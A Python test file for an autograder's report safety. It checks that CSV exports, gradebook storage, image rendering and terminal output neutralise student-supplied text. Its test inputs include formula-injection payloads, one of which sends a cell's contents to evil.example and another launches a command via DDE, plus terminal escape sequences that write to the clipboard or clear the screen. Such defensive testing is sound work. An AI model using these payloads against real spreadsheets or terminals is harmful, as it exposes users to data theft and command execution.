"""Reports that stay safe whatever a student names their folder or returns:
CSV cells that cannot become formulas, bounded pictures and gradebook rows,
collision-free file names."""

import csv
import io

import numpy as np
import pytest
from PIL import Image

from autograder.reports import export
from autograder.batch.gradebook import MAX_MESSAGE_CHARS, Gradebook
from autograder.grading import images
from autograder.reports import feedback, nbgrader_csv, safe_csv
from autograder.grading.result import ItemResult, Result

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_gets_a_leading_quote(text):
    assert safe_csv.cell(text) == "'" + text.replace("\r", "\n")


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    buffer = io.StringIO()
    safe_csv.writer(buffer).writerow(["bob\r=1+1", "x\r\ny"])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [["bob\n=1+1", "x\ny"]]


@pytest.mark.parametrize("value", ["alice", "王小明", "bob = 1", "", "'quoted", 3, 2.5, -1.5])
def test_other_cells_are_unchanged(value):
    assert safe_csv.cell(value) == value


def test_none_is_an_empty_cell_and_the_csv_reads_back():
    buffer = io.StringIO()
    safe_csv.writer(buffer).writerows([["=1+1", None, 4], ["a,b", '"q"', "@x"]])
    assert buffer.getvalue().startswith("'=1+1,,4\n")
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "", "4"], ["a,b", '"q"', "'@x"]]


def test_dict_writer_neutralises_header_and_values():
    buffer = io.StringIO()
    writer = safe_csv.dict_writer(buffer, ["name", "=score"])
    writer.writeheader()
    writer.writerow({"name": "+1+2", "=score": 3})
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["name", "'=score"], ["'+1+2", "3"]]


def _result(name):
    item = ItemResult("activations.sigmoid_values", "activations", "sigmoid", 2.0, 4.0, "failed", "public",
                      {"zh-TW": "錯", "en": "wrong"})
    return Result(name, [item])


def _cells(text):
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_gradebook_and_nbgrader_csv_hold_no_formula():
    results = [_result(name) for name in FORMULAS]
    for text in (export.gradebook_csv([(r.submission, "0" * 64, r) for r in results]),
                 nbgrader_csv.grades_csv(results)):
        cells = _cells(text)
        assert not [c for c in cells if c.startswith(safe_csv.FORMULA_STARTS)]
        for name in FORMULAS:
            assert safe_csv.cell(name) in cells


# ----------------------------------------------------------------------------- pictures
def _image_item(got, expected=None):
    from autograder.grading import compare

    expected = np.zeros((12, 12)) if expected is None else expected
    with pytest.raises(compare.Mismatch) as info:
        compare.close(got, expected, "conv2d(image=…)", image=True)
    return ItemResult("convolution.conv2d_kernel_not_flipped", "convolution", "conv2d", 0.0, 3.0, "failed",
                      "hidden", info.value.message, details=info.value.details)


@pytest.mark.parametrize("side", [2048, 4096])
def test_a_huge_returned_image_is_kept_and_drawn_small(side, tmp_path):
    got = np.random.default_rng(side).random((side, side))
    item = _image_item(got)
    kept = item.details["image"]
    assert kept["got"].shape == (256, 256) and kept["shapes"]["got"] == (side, side)
    assert kept["got"].nbytes <= 256 * 256 * 8  # the grader does not hold the full array for the report
    del got
    result = Result("big", [item])
    pictures = images.collect(result)
    assert set(pictures[item.id]) == {"expected", "got"}
    assert all(len(png) <= images.MAX_PNG_BYTES for png in pictures[item.id].values())
    assert images.source_shape(pictures[item.id]["got"]) == (side, side)
    assert images.source_shape(pictures[item.id]["expected"]) is None
    assert Image.open(io.BytesIO(pictures[item.id]["got"])).size == (256, 256)

    html_path, md_path = feedback.write_feedback(result, pictures, tmp_path, "en")
    page = html_path.read_text(encoding="utf-8")
    assert html_path.stat().st_size < 200_000 and md_path.stat().st_size < 50_000
    step = side // 256
    assert f"Shown downsampled from {side}×{side} (every {step}th row and column)." in page
    assert f"由 {side}×{side} 縮小顯示" in page
    assert f"Shown downsampled from {side}×{side}" in md_path.read_text(encoding="utf-8")


def test_to_png_downsamples_any_array_it_is_given():
    png = images.to_png(np.arange(1000 * 10.0).reshape(1000, 10), 0, 1e4)
    assert Image.open(io.BytesIO(png)).size == (3, 250)  # every 4th row and column, not enlarged
    assert images.source_shape(png) == (1000, 10)


def test_small_pictures_are_unchanged_and_say_nothing_of_downsampling():
    item = _image_item(np.ones((12, 12)))
    assert item.details["image"]["got"].shape == (12, 12)
    pictures = images.collect(Result("s", [item]))[item.id]
    assert images.source_shape(pictures["got"]) is None
    assert Image.open(io.BytesIO(pictures["got"])).size == (156, 156)
    assert "Shown downsampled" not in feedback.render_html(Result("s", [item]), pictures, "en")


def test_batch_and_feedback_draw_with_the_same_function():
    from autograder.batch import driver as batch

    assert feedback.collect_images is images.collect
    item = _image_item(np.ones((40, 40)))
    assert batch.render_images(Result("s", [item])) == images.collect(Result("s", [item]))


# ----------------------------------------------------------------------------- gradebook bounds
def test_the_gradebook_stores_bounded_messages_and_pictures(tmp_path):
    huge = "x" * 5_000_000
    item = ItemResult("activations.sigmoid_values", "activations", "sigmoid", 0.0, 4.0, "failed", "public",
                      {"zh-TW": huge, "en": "short"})
    with Gradebook(tmp_path / "g.sqlite") as book:
        book.record("h" * 64, "v", Result("s", [item]),
                    {item.id: {"expected": b"p" * 1000, "got": b"q" * (images.MAX_PNG_BYTES + 1)}})
        stored = book.result("h" * 64, "v", "s").items[0].message
        assert len(stored["zh-TW"]) <= MAX_MESSAGE_CHARS and stored["en"] == "short"
        assert stored["zh-TW"].endswith(f"({5_000_000 - (MAX_MESSAGE_CHARS - 60)} more characters not stored)")
        assert book.images("h" * 64, "v") == {item.id: {"expected": b"p" * 1000}}
    assert (tmp_path / "g.sqlite").stat().st_size < 1_000_000


# ----------------------------------------------------------------------------- terminal
HOSTILE_TERMINAL = ("[link=http://evil.example]click[/link][black on black]hidden "
                    "\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x1b\\\x1b[2J\x9b31m\u202eevil\x00\x08")


def test_student_text_reaches_the_terminal_as_plain_text():
    from rich.console import Console

    from autograder.reports import terminal

    item = ItemResult("activations.sigmoid_values", "activations", "sigmoid", 0.0, 4.0, "failed", "public",
                      {"zh-TW": "印出：" + HOSTILE_TERMINAL, "en": "printed: " + HOSTILE_TERMINAL})
    result = Result(HOSTILE_TERMINAL, [item])
    for force_terminal in (False, True):
        buffer = io.StringIO()
        console = Console(file=buffer, width=400, force_terminal=force_terminal,
                          color_system="standard" if force_terminal else None)
        terminal.print_result(result, lang="en", console=console)
        terminal.print_summary([result], lang="en", console=console)
        text = buffer.getvalue()
        for sequence in ("\x1b]52", "\x1b]0;", "\x1b[2J", "\x9b", "\u202e", "\x00", "\x08", "\x07"):
            assert sequence not in text, repr(sequence)
        assert text.count("[link=http://evil.example]click[/link][black on black]hidden") >= 3
        if not force_terminal:
            assert "\x1b" not in text


def test_clean_keeps_ordinary_text():
    from autograder.reports import terminal

    assert terminal.clean("王小明\tscore\n[1, 2]") == "王小明\tscore\n[1, 2]"
    assert terminal.clean("a\x1b[31mred\x1b[0m b\r\x1b(B") == "ared b"
